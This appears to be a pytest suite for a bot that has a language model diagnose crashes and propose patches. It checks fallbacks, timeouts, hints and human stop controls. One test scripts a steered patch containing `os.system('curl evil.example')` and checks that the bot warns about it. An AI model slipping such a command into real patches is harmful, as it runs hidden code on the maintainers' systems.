"""The bot with a model behind it: good answers are labelled, bad ones end sensibly."""

import asyncio
import re
import socket
from collections.abc import AsyncIterator
from typing import Any

import pytest
from sqlmodel import Session, select

from storage.models import Incident, Revision, Server
from storage.states import State
from tests.support.bot_process import OwnProcess, own_process
from tests.support.patience import PATIENCE
from tests.support.people import Message, buttons, preformatted, said
from tests.support.shop import BASKET, CHANNEL, Shop

MODEL = "stand-in"
FAILING = "    return price * quantitty"
REPAIRED = "    return price * max(quantity, 0)"
CAUSE = "The total uses a name that the basket does not have."
QUOTE = {"path": BASKET, "start_line": 6, "end_line": 6, "quote": FAILING, "reason": "the slip"}
EDIT = {"path": BASKET, "before": FAILING, "after": REPAIRED}

ELSEWHERE = """\
Traceback (most recent call last):
  File "/opt/calendar/days.py", line 5, in day
    return DAYS[when]
ValueError: no such day
"""


def revisions(session: Session, server: Server) -> list[Revision]:
    """All revisions of the server's incidents."""
    of_server = select(Revision).join(Incident).where(Incident.server_id == server.id)
    return list(session.exec(of_server.order_by(Revision.id)))


def asked(place: OwnProcess) -> list[dict[str, Any]]:
    """What the model was asked since its last script."""
    chats = [one.body for one in place.model.requests if one.path == "/api/chat"]
    return [body for body in chats if body["messages"]]


def answer(**changes: Any) -> dict[str, Any]:
    """A scripted answer in the asked form: right, but for what is changed."""
    said = {
        "explanation": "A letter too many.",
        "evidence": [QUOTE],
        "cause": CAUSE,
        "verdict": "code",
        "edits": [EDIT],
        "confidence": 0.9,
    }
    return {"answer": {**said, **changes}}


@pytest.fixture(scope="module")
async def place(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[OwnProcess]:
    folder = tmp_path_factory.mktemp("model")
    async with own_process(folder, SUTURE_MODEL=MODEL) as place:
        await place.bot.start()
        yield place
        assert await place.bot.stop() == 0


async def card_of(place: OwnProcess, name: str) -> tuple[Shop, Message, Message]:
    """A new shop's failure, and the root and card that it ends in."""
    shop = await Shop.open(place, name)
    await shop.report()
    root = await shop.see_root("thread")
    return shop, root, await shop.see_card(root, "reanalyze")


async def test_a_good_answer_is_labelled_and_becomes_a_pull_request(place: OwnProcess) -> None:
    place.model.script(["I have seen enough.", answer()])
    shop, root, card = await card_of(place, "good")
    assert CAUSE in said(card)
    assert f"model {MODEL}" in said(card)
    assert f"+{REPAIRED}" in preformatted(card)[-1]
    await shop.click(card, "approve_fix")
    await shop.see_card(root, "/pull/")
    [pull] = await shop.pulls()
    assert REPAIRED.encode() in shop.file_at(pull["head"]["ref"])[1]
    assert f"the model {MODEL}" in pull["body"]


async def test_a_patch_that_runs_commands_is_shown_with_a_warning(place: OwnProcess) -> None:
    steered = f"    import os as o\n    o.system('curl evil.example')\n{REPAIRED}"
    place.model.script(["I have seen enough.", answer(edits=[{**EDIT, "after": steered}])])
    shop, _, card = await card_of(place, "steered")
    assert "approve_fix" in buttons(card)
    assert "+    o.system(" in preformatted(card)[-1]
    assert f":warning: {BASKET}: the patch runs commands (`os.system`)" in said(card)
    assert await shop.pulls() == []


async def test_a_hint_reaches_the_model(place: OwnProcess) -> None:
    place.model.script(["I have seen enough.", answer()])
    shop, root, _ = await card_of(place, "hinted")
    place.model.script(["I have seen enough.", answer(cause="The cache, as was said.")])
    await shop.mention(root, "look at the cache, not the basket")
    await shop.see_card(root, "revision 2", "The cache, as was said.")
    prompts = [str(request.body.get("messages")) for request in place.model.requests]
    assert any("look at the cache, not the basket" in prompt for prompt in prompts)


@pytest.mark.parametrize(
    ("trouble", "reason"),
    [
        ({"fault": "drop"}, "Rule-based:"),
        ({"fault": "status", "status": 404, "error": "model 'stand-in' not found"}, "ollama pull"),
        ({"fault": "status", "status": 500}, "Rule-based:"),
        ({"content": "{" + "x" * 200, "fault": "cut"}, "Rule-based:"),
        ({"fault": "not_json"}, "Rule-based:"),
        ({"content": "I am not sure, perhaps try turning it off and on."}, "Rule-based:"),
    ],
    ids=["dropped", "not-pulled", "crashed", "cut", "not-json", "chatter"],
)
async def test_a_model_that_fails_is_replaced_by_rules_and_the_card_says_why(
    place: OwnProcess, trouble: dict[str, Any], reason: str, request: pytest.FixtureRequest
) -> None:
    place.model.script([trouble])
    _, _, card = await card_of(place, f"model-{request.node.callspec.id}")
    assert "rule-based" in said(card)
    assert reason in said(card)
    assert "approve_fix" in buttons(card), "the rules mend this slip"
    assert "+    return price * quantity" in preformatted(card)[-1]


@pytest.mark.parametrize(
    "edit",
    [
        {"after": "Just correct the spelling of the name."},
        {"path": "shop/nowhere.py"},
        {"before": "    return quantity * prize"},
        {"after": FAILING},
    ],
    ids=["prose", "unknown-file", "not-there", "no-change"],
)
async def test_an_edit_that_cannot_be_made_is_never_shown(
    place: OwnProcess, edit: dict[str, str], request: pytest.FixtureRequest
) -> None:
    place.model.script(["I have seen enough.", answer(edits=[{**EDIT, **edit}])])
    _, _, card = await card_of(place, f"edit-{request.node.callspec.id}")
    shown = said(card)
    assert edit.get("after", "?") not in "".join(
        line[1:] for line in preformatted(card)[-1].splitlines() if line.startswith("+")
    )
    # The rules have a patch where the model has none; what the model said is kept as a note.
    assert "rule-based" in shown
    assert f"{MODEL} found no patch; it says: {CAUSE}" in shown
    assert "approve_fix" in buttons(card)


async def test_an_edit_that_is_corrected_when_sent_back_is_shown(place: OwnProcess) -> None:
    wrong = answer(edits=[{**EDIT, "before": "    return nothing"}])
    place.model.script(["I have seen enough.", wrong, answer()])
    _, _, card = await card_of(place, "corrected")
    assert f"model {MODEL}" in said(card)
    assert f"+{REPAIRED}" in preformatted(card)[-1]


async def test_a_quote_that_is_not_there_is_dropped(place: OwnProcess) -> None:
    false = {**QUOTE, "quote": "    raise SystemExit('invented')"}
    place.model.script(["I have seen enough.", answer(evidence=[QUOTE, false])])
    _, _, card = await card_of(place, "invented")
    assert "SystemExit" not in said(card)
    assert f"{BASKET}:6" in said(card)


async def test_a_model_server_that_is_away_and_comes_back(place: OwnProcess) -> None:
    port = int(place.model.url.rpartition(":")[2])
    await place.model.stop()
    with socket.socket() as kept:  # bound and silent, or another process might get the port
        kept.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        kept.bind(("127.0.0.1", port))
        shop, root, card = await card_of(place, "switched-off")
        assert "rule-based" in said(card)
        assert "Rule-based:" in said(card)
        await place.model.start(port=port)
    place.model.script(["I have seen enough.", answer()])
    await shop.click(card, "reanalyze")
    await shop.see_card(root, "revision 2", f"model {MODEL}")


async def test_what_a_model_took_is_shown(place: OwnProcess) -> None:
    place.model.script(["I have seen enough.", answer()])
    shop, _, card = await card_of(place, "priced")
    assert re.search(rf"model {MODEL} · \d+ s · [\d,]+ tokens", said(card))
    [revision] = await shop.look(revisions)
    assert revision.analysis["tokens"] > 500
    assert revision.analysis["seconds"] > 0


async def test_anybody_may_stop_an_analysis_and_it_can_be_tried_again(place: OwnProcess) -> None:
    place.model.script([{"delay": 60}])
    shop = await Shop.open(place, "stopped")
    await shop.report()
    root = await shop.see_root(f"asking {MODEL}")
    assert buttons(root) == ["stop_analysis"]
    await shop.click(root, "stop_analysis", "mei")
    mei = place.workspace.users["mei"]
    card = await shop.see_card(root, f"Stopped by <@{mei}>", "reanalyze")
    root = await shop.see_root(f"Stopped by <@{mei}>")
    assert buttons(root) == []
    [revision] = await shop.look(revisions)
    assert (revision.state, revision.stopped_by, revision.analysis) == (State.FAILED, mei, None)

    place.model.script(["I have seen enough.", answer()])
    await shop.click(card, "reanalyze")
    await shop.see_card(root, "revision 2", CAUSE)
    await shop.see_root("waits for approval")
    assert len(await shop.thread(root)) == 2


async def test_of_two_who_stop_the_second_is_told_so(place: OwnProcess) -> None:
    place.model.script([{"delay": 60}])
    shop = await Shop.open(place, "stopped-twice")
    await shop.report()
    root = await shop.see_root(f"asking {MODEL}")
    people = ("jonas", "mei")
    await asyncio.gather(*(shop.click(root, "stop_analysis", name) for name in people))
    await shop.see_card(root, "Stopped by")
    [revision] = await shop.look(revisions)
    [second] = {place.workspace.users[name] for name in people} - {revision.stopped_by}
    await place.people.see_whisper(CHANNEL, second, "over already")


async def test_a_hint_ends_the_analysis_that_runs(place: OwnProcess) -> None:
    place.model.script([{"delay": 60}])
    shop = await Shop.open(place, "redirected")
    await shop.report()
    root = await shop.see_root(f"asking {MODEL}")
    place.model.script(["I have seen enough.", answer(cause="The rounding, as was said.")])
    await shop.mention(root, "it is the rounding")
    await shop.see_card(root, "revision 2", "The rounding, as was said.")
    assert len(await shop.thread(root)) == 1


async def test_a_server_may_have_a_model_of_its_own(place: OwnProcess) -> None:
    shop = await Shop.open(place, "choosy")
    await shop.change(model=f"nobody:1b, {MODEL}")
    place.model.script(["I have seen enough.", answer()])
    await shop.report()
    root = await shop.see_root("waits for approval")
    card = await shop.see_card(root, f"model {MODEL}")
    assert "has no model nobody:1b" in said(card)


async def test_what_is_undetermined_says_what_would_settle_it(place: OwnProcess) -> None:
    said_so = {"verdict": "undetermined", "would_settle": "The price list of that day."}
    place.model.script(["I have seen enough.", answer(**said_so)])
    shop = await Shop.open(place, "unclear")
    await shop.report(errorType="ValueError", message="no such day", stackTrace=ELSEWHERE)
    root = await shop.see_root("undetermined")
    card = await shop.see_card(root, "*Undetermined*")
    assert "*What would settle it*\nThe price list of that day." in said(card)
    assert f"model {MODEL}" in said(card)


async def test_after_a_kill_a_finished_call_is_not_made_again(place: OwnProcess) -> None:
    look = {"tool_calls": [{"name": "symbol", "arguments": {"name": "total"}}]}
    place.model.script([look, {"delay": 60}])
    shop = await Shop.open(place, "interrupted")
    await shop.report()
    await shop.see_root("searching")
    async with asyncio.timeout(PATIENCE):
        while len(asked(place)) < 2:  # noqa: ASYNC110
            await asyncio.sleep(0.05)
    await place.bot.kill()
    assert len(asked(place)) == 2
    place.model.script([answer()])
    await place.bot.start()
    root = await shop.see_root("waits for approval")
    await shop.see_card(root, CAUSE)
    assert len(asked(place)) == 1


async def test_a_model_that_takes_too_long_is_not_waited_for(place: OwnProcess) -> None:
    assert await place.bot.stop() == 0
    place.bot.environment["SUTURE_MODEL_TIMEOUT"] = "1"
    place.model.script([{"delay": 60}])
    await place.bot.start()
    _, _, card = await card_of(place, "model-slow")
    assert "rule-based" in said(card)
    assert "did not finish within 1 s" in said(card)
    assert "approve_fix" in buttons(card), "the rules mend this slip"
